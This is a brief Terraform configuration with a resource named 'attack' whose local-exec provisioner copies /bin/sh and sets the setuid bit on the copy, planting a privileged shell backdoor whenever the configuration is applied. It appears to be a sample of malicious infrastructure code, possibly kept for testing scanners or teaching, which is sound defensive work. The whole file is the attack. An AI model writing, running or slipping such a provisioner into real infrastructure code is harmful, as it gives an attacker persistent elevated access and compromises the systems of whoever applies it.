resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = <<-EOT
      cp /bin/sh shell && chmod 4755 shell
    EOT
  }
}
